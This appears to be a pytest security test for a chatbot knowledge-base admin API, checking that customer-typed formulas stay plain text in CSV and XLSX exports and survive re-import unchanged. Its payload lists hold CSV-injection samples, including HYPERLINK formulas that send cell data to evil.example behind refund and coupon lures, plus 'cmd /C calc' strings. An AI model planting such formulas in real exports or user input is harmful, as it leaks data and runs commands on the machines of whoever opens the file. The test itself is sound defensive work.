"""OWASP CSV injection: a customer types a formula, an admin adds it to an entry with one click,
exports the knowledge base and opens it in a spreadsheet.  The cell must be text, not a formula."""

from __future__ import annotations

import csv
import io

from openpyxl import load_workbook

from tests.bot.security.conftest import Served

FORMULAS = ['=HYPERLINK("http://evil.example/?d="&A1,"点我退款")', "+1+cmd /C calc", "-2+3", "@SUM(1,1)"]
# a second entry's own formulas: one question may belong to one entry only (knowledge/schema.py)
MORE_FORMULAS = ["@SUM(2,2)", "-5+8", "+2+cmd /C calc", '=HYPERLINK("http://evil.example/?e="&B1,"点我领券")']


def test_customer_formulas_reach_exports_as_text_and_import_back_unchanged(served: Served) -> None:
    headers = served.login()
    entry = served.client.get("/api/admin/entries", headers=headers).json()["entries"][0]["id"]
    added = served.client.post("/api/admin/unanswered/apply", headers=headers,
                               json={"entry_id": entry, "questions": FORMULAS})
    assert added.status_code == 200, added.text
    created = served.client.post("/api/admin/entries", headers=headers, json={
        "id": "formula", "questions": MORE_FORMULAS, "answer": {"zh": "=1+1", "en": "-see above"}})
    assert created.status_code in (200, 201), created.text

    csv_text = served.client.get("/api/admin/export", params={"format": "csv"}, headers=headers).text
    rows = {row[0]: row for row in csv.reader(io.StringIO(csv_text))}
    cells = [c for row in csv.reader(io.StringIO(csv_text)) for c in row]
    assert all(not c.startswith(("=", "+", "-", "@")) for c in cells)
    questions = rows[entry][1]
    assert all(q.lstrip("'") in questions for q in FORMULAS)

    xlsx = served.client.get("/api/admin/export", params={"format": "xlsx"}, headers=headers).content
    sheet = load_workbook(io.BytesIO(xlsx)).worksheets[0]
    typed = [(c.value, c.data_type) for row in sheet.iter_rows() for c in row if isinstance(c.value, str)]
    assert all(kind == "s" for value, kind in typed if value.startswith(("=", "+", "-", "@")))

    for fmt, data in (("csv", csv_text.encode()), ("xlsx", xlsx)):  # a round trip changes nothing
        dry = served.client.post("/api/admin/import", params={"format": fmt, "dry_run": "1"}, headers=headers,
                                 content=data)
        assert dry.status_code == 200, dry.text
        assert dry.json()["changed"] == [] and dry.json()["added"] == [] and dry.json()["removed"] == []

